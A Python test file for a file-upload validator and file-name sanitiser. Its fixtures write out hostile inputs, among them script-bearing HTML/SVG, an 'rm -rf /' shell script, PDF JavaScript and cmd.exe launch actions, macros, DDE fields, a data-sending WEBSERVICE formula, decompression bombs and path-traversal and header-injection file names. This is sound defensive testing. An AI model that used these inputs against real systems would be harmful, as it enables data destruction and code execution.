"""What a file is is told by its content; what does something when it is opened is not taken in."""

from __future__ import annotations

import io
from collections.abc import Callable

import openpyxl
import pytest
from django.utils import timezone

from samspill.web.areas.prints.typesetting import pdf
from samspill.web.sharing.files.judging import judge
from samspill.web.sharing.files.kinds import MOST_BYTES, FileKind, Unfit, UnfitError
from samspill.web.sharing.files.names import shown_name
from support.uploads import (
    a_docx,
    a_jpeg,
    a_pdf,
    a_png,
    a_pptx,
    an_xlsx,
    changed,
    locked,
    packed,
    parts_of,
    related,
    saying,
    with_parts,
    zipped,
)

PAGE = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
TYPES = "[Content_Types].xml"
MAIN = "wordprocessingml.document.main+xml"
FORMULA = b'navn;sum\nAnne;=HYPERLINK("http://x")\n'
DDE = "<w:r><w:instrText>DDEAU</w:instrText></w:r><w:r><w:instrText>TO c:\\\\x</w:instrText></w:r>"
ENTITY = '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
BOMB = b"\0" * (30 * 1024 * 1024)


def opened_bomb() -> bytes:
    """An object stream that is a thousand times as large unpacked."""
    return a_pdf(packed(b"/Type /ObjStm /N 1 /First 4", b"\0" * (41 * 1024 * 1024)))


HOSTILE: dict[str, tuple[Callable[[], bytes], Unfit]] = {
    "nothing": (lambda: b"", Unfit.EMPTY),
    "too large by a byte": (lambda: b"a" * (MOST_BYTES + 1), Unfit.TOO_LARGE),
    "a page": (lambda: PAGE, Unfit.MARKUP),
    "a page after some words": (lambda: b"Hei. " + PAGE, Unfit.MARKUP),
    "a drawing with a script": (lambda: SVG, Unfit.MARKUP),
    "a drawing after a declaration": (
        lambda: b'\xef\xbb\xbf<?xml version="1.0"?>' + SVG, Unfit.MARKUP
    ),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", Unfit.MARKUP),
    "rich text": (lambda: b"{\\rtf1 {\\object}}", Unfit.MARKUP),
    "a program for Windows": (lambda: b"MZ\x90\0\x03\0\0\0", Unfit.UNKNOWN),
    "a program for Linux": (lambda: b"\x7fELF\x02\x01\x01\0", Unfit.UNKNOWN),
    "a moving picture": (lambda: b"GIF89a/*\x01\0*/=1;alert(1)", Unfit.UNKNOWN),
    "text in another encoding": (lambda: b"Bl\xe5b\xe6r", Unfit.UNKNOWN),
    "text that turns its direction": ("slett\u202egpj.exe".encode, Unfit.MARKUP),
    "a cell that is worked out": (lambda: FORMULA, Unfit.SUMS),
    "classified text": (lambda: b"STRENGT HEMMELIG\nTekst", Unfit.CLASSIFIED),
    "a plain zip": (lambda: zipped({"a.txt": "a"}), Unfit.UNKNOWN),
    "an older document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, Unfit.UNKNOWN),
    "PDF with a zip behind": (lambda: a_pdf() + zipped({"a": "a"}), Unfit.MIXED),
    "PDF with a page behind": (lambda: a_pdf() + PAGE, Unfit.MIXED),
    "PDF with a page in its head": (
        lambda: a_pdf().replace(b"%\xe2\xe3", b"%" + PAGE + b"\xe2"), Unfit.MIXED
    ),
    "a page with a PDF behind": (lambda: PAGE + a_pdf(), Unfit.UNKNOWN),
    "words with a PDF behind": (lambda: b"Hei\n" + a_pdf(version=b"1.4").replace(
        b"\xe2\xe3\xcf\xd3", b"ok"), Unfit.MIXED),
    "zip with a PDF in front": (
        lambda: zipped({"a": a_pdf()}).replace(b"PK\x03", b"%PDF-1.4 PK\x03"), Unfit.MIXED
    ),
    "half a PDF": (lambda: a_pdf()[:120], Unfit.BROKEN),
    "PDF with a script": (lambda: a_pdf(SCRIPT), Unfit.RUNS),
    "PDF with a script under another name": (
        lambda: a_pdf(SCRIPT.replace(b"/JavaScript", b"/J#61vaScript")), Unfit.RUNS
    ),
    "PDF with a script packed away": (
        lambda: a_pdf(packed(b"/Type /ObjStm /N 1 /First 4", b"9 0 " + SCRIPT)), Unfit.RUNS
    ),
    "PDF with a script packed away, unsaid": (
        lambda: a_pdf(packed(b"/N 1 /First 4", b"9 0 " + SCRIPT)), Unfit.RUNS
    ),
    "PDF with a script packed twice": (
        lambda: a_pdf(
            packed(b"/Type /ObjStm /First 4", b"", kind=b"[/ASCIIHexDecode /FlateDecode]")
        ),
        Unfit.RUNS,
    ),
    "PDF with hidden objects": (
        lambda: a_pdf(packed(b"/Type /Obj#53tm /N 1 /F#69rst 4", b"9 0 " + SCRIPT)), Unfit.RUNS
    ),
    "PDF that starts a program": (lambda: a_pdf(b"<< /S /Launch /F (cmd.exe) >>"), Unfit.RUNS),
    "PDF that sends a form": (lambda: a_pdf(b"<< /S /SubmitForm /F (http://x) >>"), Unfit.RUNS),
    "PDF with a file in it": (lambda: a_pdf(packed(b"/Type /EmbeddedFile", b"MZ")), Unfit.EMBEDDED),
    "PDF with a password": (lambda: a_pdf(tail=b" /Encrypt 9 0 R"), Unfit.LOCKED),
    "PDF that swells": (opened_bomb, Unfit.SWELLS),
    "picture with a page in it": (lambda: a_png((b"tEXt", PAGE)), Unfit.MIXED),
    "picture with a zip behind": (lambda: a_png() + zipped({"a": "a"}), Unfit.MIXED),
    "picture with a program behind": (lambda: a_png() + b"MZ\x90\0" * 9, Unfit.MIXED),
    "picture that says it is vast": (lambda: a_png(size=(60_000, 60_000)), Unfit.SWELLS),
    "picture with a wrong sum": (lambda: a_png().replace(b"IDAT", b"IDAX"), Unfit.BROKEN),
    "photograph with a page in it": (lambda: a_jpeg(PAGE), Unfit.MIXED),
    "photograph with a PDF in it": (lambda: a_jpeg(b"%PDF-1.4"), Unfit.MIXED),
    "photograph with a zip behind": (lambda: a_jpeg() + zipped({"a": "a"}), Unfit.MIXED),
    "half a photograph": (lambda: a_jpeg()[:-9], Unfit.BROKEN),
    "document with macros": (
        lambda: with_parts(a_docx(), word__vbaProject_DOT_bin=b"\xd0\xcf"), Unfit.MACROS
    ),
    "document whose type has macros": (
        lambda: changed(a_docx(), TYPES, f"application/vnd.openxmlformats-officedocument.{MAIN}",
                        "application/vnd.ms-word.document.macroEnabled.main+xml"), Unfit.MACROS
    ),
    "document with a template elsewhere": (
        lambda: related(a_docx(), "attachedTemplate", "https://x/a.dotm"), Unfit.LINKED
    ),
    "document with a picture elsewhere": (
        lambda: related(a_docx(), "image", "https://x/a.png"), Unfit.LINKED
    ),
    "document with a link to a share": (
        lambda: related(a_docx(), "hyperlink", "file://x/a.png"), Unfit.LINKED
    ),
    "document with a page in it": (
        lambda: related(a_docx(), "aFChunk", "a.html", outside=False), Unfit.EMBEDDED
    ),
    "document that asks a program": (lambda: saying(a_docx(), DDE), Unfit.LINKED),
    "document with another in it": (
        lambda: with_parts(a_docx(), word__embeddings__a_DOT_xlsx=an_xlsx()), Unfit.EMBEDDED
    ),
    "document with a zip as picture": (
        lambda: with_parts(a_docx(), word__media__a_DOT_png=zipped({"a": "a"})), Unfit.EMBEDDED
    ),
    "document with a drawing that runs": (
        lambda: with_parts(a_docx(), word__media__a_DOT_svg=SVG), Unfit.EMBEDDED
    ),
    "document with entities": (
        lambda: with_parts(a_docx(), word__a_DOT_xml=ENTITY), Unfit.LINKED
    ),
    "document in another encoding": (
        lambda: with_parts(a_docx(), word__a_DOT_xml=ENTITY.encode("utf-16")), Unfit.BROKEN
    ),
    "document with a part outside": (
        lambda: zipped(parts_of(a_docx()) | {"../../x.xml": "<x/>"}), Unfit.BROKEN
    ),
    "document with a page in front": (lambda: PAGE + a_docx(), Unfit.UNKNOWN),
    "document with a zip behind": (lambda: a_docx() + zipped({"a": "a"}), Unfit.MIXED),
    "document with a page behind": (lambda: zipped(parts_of(a_docx()), comment=PAGE), Unfit.MIXED),
    "document with a password": (lambda: locked(a_docx()), Unfit.LOCKED),
    "document that swells": (
        lambda: with_parts(a_docx(), word__a_DOT_xml=BOMB), Unfit.SWELLS
    ),
    "document of many that swell": (
        lambda: zipped(parts_of(a_docx()) | {f"word/{n}.xml": bytes(range(256)) * 4000
                                             for n in range(110)}), Unfit.SWELLS
    ),
    "workbook that fetches": (
        lambda: an_xlsx(('=WEBSERVICE("http://x/" & A2)', 1)), Unfit.LINKED
    ),
    "workbook with another's cells": (
        lambda: with_parts(an_xlsx(), xl__externalLinks__a_DOT_xml="<x/>"), Unfit.LINKED
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_not_taken_in(name: str) -> None:
    make, why = HOSTILE[name]
    with pytest.raises(UnfitError) as refused:
        judge(make())
    assert refused.value.why is why


def linked_workbook() -> bytes:
    """With a link that a reader presses, which is no more than its address."""
    made, content = openpyxl.Workbook(), io.BytesIO()
    cell = made.worksheets[0]["A1"]
    cell.value, cell.hyperlink = "Veiledning", "https://example.com/a"
    made.save(content)
    return content.getvalue()


def test_a_print_of_ours_is_taken_in() -> None:
    values = {"label": None, "restrictions": [], "printed": "x", "page-words": "{n} {all}",
              "allows": "", "lead": "x", "left-out": [], "names": ["a"] * 6,
              "shares": [["a"] * 6]}  # fmt: skip
    made = pdf("own", title="Delt", values=values, now=timezone.now())
    assert judge(made) is FileKind.PDF


HONEST: dict[str, tuple[Callable[[], bytes], FileKind]] = {
    "PDF": (a_pdf, FileKind.PDF),
    "PDF with packed objects": (
        lambda: a_pdf(packed(b"/Type /ObjStm /N 1 /First 4", b"9 0 << /A 1 >>")), FileKind.PDF
    ),
    "picture": (a_png, FileKind.PNG),
    "picture with words": (lambda: a_png((b"tEXt", b"Title\0Kvittering")), FileKind.PNG),
    "photograph": (a_jpeg, FileKind.JPEG),
    "text": ("Blåbær koster 5 < 6, og -3 + 2.\n".encode, FileKind.TEXT),
    "text with a mark before it": (lambda: b"\xef\xbb\xbfHei", FileKind.TEXT),
    "table": ("dato;beløp\n2026-11-30;-5,20\n".encode, FileKind.CSV),
    "document": (a_docx, FileKind.DOCX),
    "document with a link": (
        lambda: related(a_docx(), "hyperlink", "https://example.com/"), FileKind.DOCX
    ),
    "workbook": (an_xlsx, FileKind.XLSX),
    "workbook with a sum": (lambda: an_xlsx((1, 2, '=A1&"|"&B1')), FileKind.XLSX),
    "workbook with a link": (linked_workbook, FileKind.XLSX),
    "presentation": (a_pptx, FileKind.PPTX),
}  # fmt: skip


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_is_taken_in(name: str) -> None:
    make, kind = HONEST[name]
    assert judge(make()) is kind


@pytest.mark.parametrize(
    ("uploaded", "kind", "shown"),
    [
        ("rapport.pdf", FileKind.PDF, "rapport.pdf"),
        ("Rapport.PDF", FileKind.PDF, "Rapport.pdf"),
        ("foto.jpeg", FileKind.JPEG, "foto.jpeg"),
        ("tall.txt", FileKind.CSV, "tall.txt"),
        ("rapport.exe", FileKind.PDF, "rapport.exe.pdf"),
        ("../../etc/passwd", FileKind.TEXT, "passwd.txt"),
        ("C:\\Windows\\system.ini", FileKind.TEXT, "system.ini.txt"),
        ("..", FileKind.PNG, "file.png"),
        ("", FileKind.PNG, "file.png"),
        (".htaccess", FileKind.TEXT, "htaccess.txt"),
        ("a\0b\r\nSet-Cookie: x.txt", FileKind.TEXT, "ab Set-Cookie_ x.txt"),
        ("rapport\u202efdp.exe", FileKind.DOCX, "rapportfdp.exe.docx"),
        ("con.txt", FileKind.TEXT, "_con.txt"),
        ("LPT1", FileKind.TEXT, "_LPT1.txt"),
        ('<img src=x onerror="a">.png', FileKind.PNG, "_img src=x onerror=_a__.png"),
        ("å" * 300 + ".pdf", FileKind.PDF, "å" * 100 + ".pdf"),
    ],
)
def test_a_name_is_one_that_anybody_can_save(uploaded: str, kind: FileKind, shown: str) -> None:
    assert shown_name(uploaded, kind) == shown
